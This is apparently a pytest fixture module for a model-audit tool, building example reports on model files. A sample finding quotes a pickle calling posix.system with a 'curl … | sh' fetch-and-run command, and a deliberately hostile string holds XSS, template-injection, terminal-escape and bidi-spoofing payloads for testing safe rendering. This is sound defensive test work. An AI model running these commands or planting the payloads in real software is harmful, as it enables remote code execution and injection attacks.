"""Reports to render: one of each verdict, and one in which every string is hostile."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest
from reports.license_examples import build_conflicting_conclusion, build_hostile_conclusion, build_plain_conclusion
from support.decisions import answer_use, build_decision
from support.officer_kinds import scan_kinds

from modelaudit.model.acceptance import Acceptance, AcceptanceSource
from modelaudit.model.artifact import RefKind
from modelaudit.model.copies import replace
from modelaudit.model.digest import Claim, ClaimSource, Digest, DigestAlgorithm
from modelaudit.model.finding import CheckFamily, Confidence, Finding, Rule, Severity
from modelaudit.model.hub_scans import HubScans, ScannerAnswer
from modelaudit.model.license import ClaimKind, ConclusionState, LicenseClaim, LicenseConclusion, Relation
from modelaudit.model.opinion import Opinion, OpinionFinding, OpinionState
from modelaudit.model.provenance import Owner, OwnerKind, Pin, PinHistory, Provenance, RevisionKind
from modelaudit.model.report import (
    SCHEMA,
    Absence,
    ArtifactRecord,
    AuditReport,
    ByteCounts,
    Coverage,
    DigestState,
    Extent,
    PolicyRecord,
    Target,
    Tool,
)
from modelaudit.model.signature import Signature, SignatureMethod, SignatureState, SignedTime, Signer
from modelaudit.model.structure import Location, Unread, UnreadReason
from modelaudit.model.terms import Clause, LicenseCategory, LicenseEntry
from modelaudit.model.verdict import Verdict

HIGH_GATES = dict.fromkeys(CheckFamily, Severity.HIGH)
COMMIT = "3f1a9c0de4b7a2285c6d1f0e9b8a7c6d5e4f3a2b"
# Markup, template syntax and terminal escapes; invisible, control and direction characters; lone surrogates; combining
# characters; and the ends of comments and CDATA sections.
HOSTILE = (
    "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'&amp;{{ 7*7 }}{% raw %}"
    "\x1b[31;1mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 [red]markup[/red] [/] "
    "\u202eexe.tnegra\u202c\u200b\u2066\ufeff\x00\x07\x08\r\n\t\x9b31m\u2028\U000e0041"
    "\udcff\udc80\ud800 caf\u0301\u0301\u0301\u0301\u0301\u0301\u0301 \u3164 \ufffd \U0001f4a9 | `#` ]]> -->"
)


def build_sha256(letter: str) -> Digest:
    """Build a SHA-256 digest of 64 times the same hexadecimal digit."""
    return Digest(DigestAlgorithm.SHA256, letter * 64)


def build_git_blob(letter: str) -> Digest:
    """Build a git blob id of 40 times the same hexadecimal digit."""
    return Digest(DigestAlgorithm.GIT_BLOB, letter * 40)


APACHE = LicenseEntry(
    id="Apache-2.0",
    name="Apache License 2.0",
    category=LicenseCategory.PERMISSIVE,
    hub_ids=("apache-2.0",),
    aliases=("Apache 2.0",),
    clauses=(
        Clause("include-license-text", "Give everyone who receives the model a copy of the licence.", "section 4(a)"),
        Clause("state-changes", "Mark the files that you changed as changed.", "section 4(b)"),
        Clause("keep-notices", "Keep copyright, patent, trademark and attribution notices.", "section 4(c)"),
    ),
    url="https://www.apache.org/licenses/LICENSE-2.0",
    read="2026-11-20",
)
LLAMA = LicenseEntry(
    id="LicenseRef-Llama-3.1",
    name="Llama 3.1 Community License Agreement",
    category=LicenseCategory.CONDITIONAL,
    hub_ids=("llama3.1",),
    aliases=(),
    clauses=(
        Clause("attribution-naming", "Show \u201cBuilt with Llama\u201d where users see it.", "section 1.b.i"),
        Clause("user-cap", "Ask for a licence of your own above 700 million monthly active users.", "section 2"),
        Clause("use-policy", "Follow the acceptable use policy, and pass it on.", ""),
    ),
    url="https://www.llama.com/llama3_1/license/",
    read="",
)

CALL = Rule(
    id="pickle/dangerous-call",
    title="Loading the file calls a function that can run commands",
    check=CheckFamily.SECURITY,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    why="A pickle is a program, and loading it runs that program. This one calls a function that starts other programs "
    "or runs code, so whoever loads the file hands over the machine.",
    fix="Do not load the file. Ask the publisher for safetensors weights, or take a revision without this file.",
    references=("https://docs.python.org/3/library/pickle.html", "https://cwe.mitre.org/data/definitions/502.html"),
    cwe=("CWE-502", "CWE-78"),
    since="0.1",
)
MISMATCH = Rule(
    id="integrity/digest-mismatch",
    title="The bytes are not those that the Hub states",
    check=CheckFamily.INTEGRITY,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    why="The digest of the file differs from the one recorded for it, so the file was changed or damaged on its way.",
    fix="Delete the local copy and fetch it again; if it differs still, tell the publisher.",
    references=(),
    cwe=("CWE-354",),
    since="0.1",
)
UNLISTED = Rule(
    id="pickle/unlisted-call",
    title="Loading the file calls a function that nobody has vetted",
    check=CheckFamily.SECURITY,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    why="The function belongs to a package outside the trust list, so what it does when called is not known here.",
    fix="Have someone who knows the package look at the function, or take weights in a format without code.",
    references=("https://docs.python.org/3/library/pickle.html",),
    cwe=("CWE-502",),
    since="0.1",
)
CONFLICT = Rule(
    id="license/contradiction",
    title="Two statements about the licence contradict each other",
    check=CheckFamily.LICENSE,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    why="The card grants more than the licence file does. Who relies on the card may break the licence.",
    fix="Ask the publisher which holds, and keep the answer with this report.",
    references=(),
    cwe=(),
    since="0.1",
)
HOLE = Rule(
    id="safetensors/hole",
    title="Bytes between tensors belong to no tensor",
    check=CheckFamily.SECURITY,
    severity=Severity.LOW,
    confidence=Confidence.LOW,
    why="A hole can carry hidden data.",
    fix="Write the file again with the safetensors library.",
    references=("javascript:alert(1)", "http://plain.example/"),
    cwe=(),
    since="0.1",
)
CARD = Rule(
    id="provenance/no-base-model",
    title="The card names no base model",
    check=CheckFamily.PROVENANCE,
    severity=Severity.INFO,
    confidence=Confidence.MEDIUM,
    why="Without it nobody can tell which earlier licence still binds the weights.",
    fix="Ask the publisher, and record the answer.",
    references=(),
    cwe=(),
    since="0.1",
)


SIGNED = Signature(
    "model.sig",
    SignatureState.VERIFIED,
    SignatureMethod.CERTIFICATE,
    signer=Signer(
        SignatureMethod.CERTIFICATE,
        "CN=models,O=Acme",
        "CN=Acme Signing",
        "modelaudit.yaml:7",
        SignedTime("2026-11-20T08:00:00Z", "time stamp"),
    ),
    covered=5,
    uncovered=("training_args.bin",),
    left_out=(".gitattributes",),
    ignored_paths=(".git", ".gitattributes", ".github", ".gitignore"),
)
REFUSED = Signature(
    "old.sig", SignatureState.REFUSED, SignatureMethod.KEY, "the signature does not fit the statement and the key"
)
UNCHECKED = Signature("model.sig", SignatureState.UNCHECKED, SignatureMethod.KEY, "no key was given: --public-key FILE")


def _build_findings() -> tuple[Finding, ...]:
    """Build one finding for each of the rules above."""
    member = "pytorch_model.bin!archive/data.pkl"
    return (
        Finding(
            rule=CALL.id,
            severity=CALL.severity,
            check=CALL.check,
            artifact=member,
            message="Loading it calls posix.system with the argument 'curl -s https://example.org/x | sh'.",
            location=Location(offset=1234),
            evidence=(
                "1219: GLOBAL 'posix system'",
                "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
                "1234: REDUCE",
            ),
            key="posix.system@1234",
        ),
        Finding(
            rule=MISMATCH.id,
            severity=MISMATCH.severity,
            check=MISMATCH.check,
            artifact="model.safetensors",
            message="SHA-256 of the bytes is bbbb\u2026, the Hub states cccc\u2026",
            evidence=(f"computed {'b' * 64}", f"stated   {'c' * 64}"),
            key="sha256",
        ),
        Finding(
            rule=UNLISTED.id,
            severity=UNLISTED.severity,
            check=UNLISTED.check,
            artifact="training_args.bin",
            message="Loading it calls acme.training.restore, which is on no list.",
            location=Location(offset=88),
            evidence=("88: REDUCE acme.training.restore(…)",),
            key="acme.training.restore",
        ),
        Finding(
            rule=CONFLICT.id,
            severity=CONFLICT.severity,
            check=CONFLICT.check,
            artifact="",
            message="README.md says apache-2.0, LICENSE holds the Llama 3.1 Community License.",
            key="license",
        ),
        Finding(
            rule=HOLE.id,
            severity=HOLE.severity,
            check=HOLE.check,
            artifact="model.safetensors",
            message="512 bytes from offset 4096 of the data belong to no tensor.",
            location=Location(offset=4096, key="model.embed_tokens.weight"),
            key="4096",
        ),
        Finding(
            rule=CARD.id,
            severity=CARD.severity,
            check=CARD.check,
            artifact="README.md",
            message="The front matter has no base_model.",
            location=Location(line=1),
            key="base_model",
        ),
    )


def _build_coverage() -> Coverage:
    """Build the coverage of seven files with four absences, one of which the policy accepts."""
    unread = Unread(UnreadReason.NO_READER, "no reader for GGUF, magic 47475546")
    broken = Unread(UnreadReason.DAMAGED, "the stream breaks off inside the opcode BINUNICODE", Location(offset=2048))
    locked = Unread(UnreadReason.ENCRYPTED, "the member is encrypted", Location(key="secret.bin"))
    image = Unread(UnreadReason.NO_READER, "no reader for PNG")
    return Coverage(
        (
            ArtifactRecord(
                "LICENSE",
                7_714,
                Extent.EXAMINED,
                ("text",),
                digests=(build_git_blob("1"),),
                claims=(Claim(build_git_blob("1"), ClaimSource.HUB, "https://huggingface.co"),),
                digest_state=DigestState.MATCH_SHA1,
                byte_counts=ByteCounts(parsed=7_714),
            ),
            ArtifactRecord(
                "README.md",
                2_310,
                Extent.EXAMINED,
                ("markdown", "yaml"),
                digests=(build_git_blob("2"),),
                claims=(Claim(build_git_blob("2"), ClaimSource.HUB, "https://huggingface.co"),),
                digest_state=DigestState.MATCH_SHA1,
            ),
            ArtifactRecord(
                "docs/architecture.png",
                184_002,
                Extent.NOT,
                digests=(build_sha256("d"),),
                digest_state=DigestState.UNCLAIMED,
                absences=(
                    (
                        "docs/architecture.png",
                        Absence(image, Acceptance(AcceptanceSource.POLICY, "default", "images carry no weights")),
                    ),
                ),
            ),
            ArtifactRecord(
                "gguf/model-00001-of-00002-with-a-rather-long-name-for-a-quantised-file.Q4_K_M.gguf",
                4_130_000_000,
                Extent.NOT,
                digest_state=DigestState.NOT_COMPUTED,
                claims=(Claim(build_sha256("e"), ClaimSource.HUB, "https://huggingface.co"),),
                absences=(
                    (
                        "gguf/model-00001-of-00002-with-a-rather-long-name-for-a-quantised-file.Q4_K_M.gguf",
                        Absence(unread),
                    ),
                ),
            ),
            ArtifactRecord(
                "model.safetensors",
                497_774_208,
                Extent.EXAMINED,
                ("safetensors",),
                digests=(build_sha256("b"),),
                claims=(Claim(build_sha256("c"), ClaimSource.HUB, "https://huggingface.co"),),
                digest_state=DigestState.MISMATCH,
                byte_counts=ByteCounts(parsed=14_208, data=497_760_000),
            ),
            ArtifactRecord(
                "pytorch_model.bin",
                497_807_197,
                Extent.PARTLY,
                ("zip", "pickle", "tensor-storage"),
                members=151,
                digests=(build_sha256("a"),),
                claims=(Claim(build_sha256("a"), ClaimSource.HUB, "https://huggingface.co"),),
                digest_state=DigestState.MATCH,
                absences=(
                    ("pytorch_model.bin!archive/data.pkl", Absence(broken)),
                    ("pytorch_model.bin", Absence(locked)),
                ),
            ),
            ArtifactRecord(
                "training_args.bin",
                4_027,
                Extent.EXAMINED,
                ("zip", "pickle"),
                members=4,
                digests=(build_sha256("f"),),
                claims=(Claim(build_sha256("f"), ClaimSource.HUB, "https://huggingface.co"),),
                digest_state=DigestState.MATCH,
            ),
        )
    )


def _build_license() -> LicenseConclusion:
    """Build the conclusion for a card that declares Apache-2.0 beside the licence text of Llama 3.1."""
    return LicenseConclusion(
        state=ConclusionState.CONTRADICTORY,
        category=LicenseCategory.UNKNOWN,
        claims=(
            LicenseClaim(
                ClaimKind.DECLARED, "README.md", "license", "apache-2.0", "Apache-2.0", Location(line=3, key="license")
            ),
            LicenseClaim(
                ClaimKind.FOUND, "LICENSE", "title", "LLAMA 3.1 COMMUNITY LICENSE AGREEMENT", LLAMA.id, Location(line=1)
            ),
            LicenseClaim(
                ClaimKind.INHERITED,
                "README.md",
                "base_model",
                "acme/secret-base",
                None,
                Location(line=5),
                relation=Relation.UNSTATED,
            ),
        ),
        entries=(APACHE, LLAMA),
        reasoning=(
            "The card declares Apache-2.0, which is permissive.",
            "The file LICENSE holds the Llama 3.1 Community License, which permits commercial use under conditions.",
            "Both cannot hold for the same weights, so neither is relied on.",
        ),
    )


def _build_opinions() -> tuple[Opinion, ...]:
    """Build the opinion of a scanner that examined a part of the model, and the absence of another scanner."""
    return (
        Opinion(
            "modelscan",
            "0.8.8",
            OpinionState.PARTLY,
            "ran to its end",
            findings=(
                OpinionFinding("pytorch_model.bin", "CRITICAL", "Use of unsafe operator 'system'", True),
                OpinionFinding("tokenizer.pkl", "LOW", "Unknown operator", False),
            ),
            absences=("gguf/model.gguf: not supported", "tokenizer.model: timed out"),
            disagreements=("training_args.bin",),
        ),
        Opinion("otherscan", "", OpinionState.ABSENT, "it is not installed for this version of Python"),
    )


def build_fail_report() -> AuditReport:
    """Build a report on a model of the Hub with a finding of each severity and parts that were not read."""
    return AuditReport(
        schema=SCHEMA,
        tool=Tool("modelaudit", "0.1.0", "9" * 64, 7, "2026-11-20"),
        created="2026-11-24T09:30:00Z",
        target=Target(
            requested="acme/tiny-llama@main",
            kind=RefKind.MODEL,
            name="acme/tiny-llama",
            revision="main",
            commit=COMMIT,
            origin="https://huggingface.co",
            offline=False,
            notes=("The revision main resolved to the commit above.",),
            provenance=Provenance(
                asked="acme/tiny-llama",
                answered="acme/tiny-llama",
                revision=RevisionKind.BRANCH,
                commit=COMMIT,
                created="2023-11-14T22:13:20.000Z",
                owner=Owner("acme", OwnerKind.ORGANIZATION, "5e67bd5b1009063689407478", "2020-03-10T16:19:23.000Z"),
                pins=(Pin("b" * 40, "2026-01-01T00:00:00Z", ClaimSource.CACHE, "refs/main", PinHistory.ANCESTOR),),
                unanswered=("whether 'main' is protected is unknown",),
                scans=HubScans(
                    "2026-01-02T00:00:00Z",
                    "https://huggingface.co",
                    False,
                    (
                        ScannerAnswer("avScan", "queued", "", "1.4.3/27600", ("config.json", "pytorch_model.bin")),
                        ScannerAnswer("protectAiScan", "unsafe", "runs <b>code</b>", "", ("pytorch_model.bin",)),
                    ),
                    ("the Hub states nothing about 1 of 3 files",),
                ),
            ),
            signatures=(SIGNED, REFUSED),
        ),
        # All checks but transparency.
        policy=PolicyRecord("default", HIGH_GATES, tuple(CheckFamily)[:4], "8" * 64),
        decision=build_decision(
            Verdict.FAIL,
            (
                "3 findings are at or above the severity high, which the policy rejects.",
                "3 parts of the model were not read, and the policy accepts none of them.",
            ),
            _build_coverage(),
            _build_license(),
        ),
        findings=_build_findings(),
        license=_build_license(),
        opinions=_build_opinions(),
        rules=(CALL, MISMATCH, UNLISTED, CONFLICT, HOLE, CARD),
    )


def build_pass_report() -> AuditReport:
    """Build a report on a local folder with one examined file, a concluded licence and no finding."""
    record = ArtifactRecord(
        "model.safetensors",
        1_024,
        Extent.EXAMINED,
        ("safetensors",),
        digests=(build_sha256("a"),),
        digest_state=DigestState.UNCLAIMED,
    )
    return replace(
        build_fail_report(),
        target=Target("tiny", RefKind.FOLDER, "tiny", None, None, "local disk", True, signatures=(UNCHECKED,)),
        policy=PolicyRecord("default", HIGH_GATES, tuple(CheckFamily), "8" * 64),
        decision=build_decision(Verdict.PASS, (), Coverage((record,))),
        findings=(),
        rules=(),
        opinions=(Opinion("modelscan", "0.8.8", OpinionState.GIVEN, "ran to its end"),),
        license=LicenseConclusion(
            ConclusionState.CONCLUDED,
            LicenseCategory.PERMISSIVE,
            (LicenseClaim(ClaimKind.DECLARED, "README.md", "license", "apache-2.0", APACHE.id, Location(line=2)),),
            (APACHE,),
            ("The card declares Apache-2.0, and nothing contradicts it.",),
        ),
    )


def build_incomplete_report() -> AuditReport:
    """Build a report on an empty folder."""
    return replace(
        build_pass_report(),
        decision=build_decision(Verdict.INCOMPLETE, ("There was nothing to examine.",), Coverage(())),
        opinions=(),
        license=LicenseConclusion(ConclusionState.UNDECLARED, LicenseCategory.UNKNOWN),
    )


def build_hostile_report() -> AuditReport:
    """Build a report whose strings from a model, a rule file or a saved report are all hostile, and some very long."""
    evil, huge = HOSTILE, HOSTILE + "A" * 100_000 + HOSTILE
    place = Location(offset=2**80, line=0, key=evil)
    unread = Unread(UnreadReason.DAMAGED, evil, place)
    records = tuple(
        ArtifactRecord(path, 2**70, Extent.PARTLY, (evil, huge), 3, absences=((f"{path}!{evil}", Absence(unread)),))
        for path in (evil, evil + "!", "\\x1b", "\x1b", "a\nb", huge)
    )
    finding = Finding(evil, Severity.CRITICAL, CheckFamily.SECURITY, evil, evil, place, (evil, huge, ""), evil)
    rule = Rule(
        evil, evil, CheckFamily.SECURITY, Severity.CRITICAL, Confidence.LOW, evil, evil, (evil, huge), (evil,), evil
    )
    pin = Pin(evil, evil, ClaimSource.LOCK, huge)
    owner = Owner(huge, OwnerKind.USER, evil, evil)
    provenance = Provenance(evil, evil, RevisionKind.NAME, evil, evil, owner, (pin,), (huge,))
    opinion_findings = (OpinionFinding(evil, evil, huge, agrees=False),)
    opinions = tuple(
        Opinion(evil, evil, state, evil, opinion_findings, absences=(evil,), disagreements=(evil,))
        for state in OpinionState
    )
    return AuditReport(
        schema=SCHEMA,
        tool=Tool(evil, evil, evil, 7, evil),
        created="2026-11-24T09:30:00Z",
        target=Target(
            *(evil, RefKind.MODEL, evil, evil, evil, evil, False, (evil, huge)),
            provenance=provenance,
            signatures=(
                Signature(evil, SignatureState.REFUSED, SignatureMethod.KEY, evil),
                replace(
                    SIGNED, record=evil, signer=Signer(SignatureMethod.SIGSTORE, evil, evil, evil), left_out=(evil,)
                ),
            ),
        ),
        policy=PolicyRecord(evil, {}, (), evil),
        decision=build_decision(Verdict.FAIL, (evil, huge), Coverage(records)),
        findings=(finding, finding, replace(finding, rule="not/explained", artifact="")),
        license=build_hostile_conclusion(evil, huge),
        opinions=opinions,
        rules=(rule,),
    )


def build_crowded_report(count: int = 1000) -> AuditReport:
    """Build the failing report with ``count`` more findings of its rule on unlisted calls."""
    plain = build_fail_report()
    unlisted_call = plain.findings[2]
    further = tuple(
        replace(
            unlisted_call,
            artifact=f"shards/part-{number:05d}.bin",
            key=f"key-{number}",
            location=Location(offset=number),
        )
        for number in range(count)
    )
    return replace(plain, findings=plain.findings + further)


def build_allowed_report() -> AuditReport:
    """Build a report that allows the intended use of the policy."""
    policy = replace(build_pass_report().policy, name="commercial-product")
    plain, license_ = build_pass_report(), build_plain_conclusion()
    decision = replace(plain.decision, use=answer_use(license_))
    return replace(plain, license=license_, policy=policy, decision=decision)


def build_conflicting_report() -> AuditReport:
    """Build a report on a model whose card grants more than its base models do."""
    plain = build_fail_report()
    policy = replace(plain.policy, name="commercial-product")
    license_ = build_conflicting_conclusion()
    decision = replace(plain.decision, use=answer_use(license_))
    return replace(plain, license=license_, policy=policy, opinions=(), decision=decision)


REPORTS: dict[str, Callable[[], AuditReport]] = {
    "fail": build_fail_report,
    "pass": build_pass_report,
    "incomplete": build_incomplete_report,
    "allowed": build_allowed_report,
    "conflicting": build_conflicting_report,
    "hostile": build_hostile_report,
    "crowded": build_crowded_report,
}


@pytest.fixture(scope="session")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, AuditReport]:
    """Scan every kind once; the modules that use it are one group of tests."""
    return scan_kinds(tmp_path_factory.mktemp("kinds"))


@pytest.fixture
def examples() -> dict[str, Callable[[], AuditReport]]:
    """Return the functions that build the example reports, by name."""
    return REPORTS


@pytest.fixture(params=list(REPORTS))
def any_report(request: pytest.FixtureRequest) -> AuditReport:
    """Return each of the example reports in turn."""
    report: AuditReport = REPORTS[request.param]()
    return report


@pytest.fixture
def failing() -> AuditReport:
    return build_fail_report()


@pytest.fixture
def passing() -> AuditReport:
    return build_pass_report()


@pytest.fixture
def incomplete() -> AuditReport:
    return build_incomplete_report()


@pytest.fixture
def conflicting() -> AuditReport:
    return build_conflicting_report()


@pytest.fixture
def hostile() -> AuditReport:
    return build_hostile_report()


@pytest.fixture
def crowded() -> AuditReport:
    return build_crowded_report()
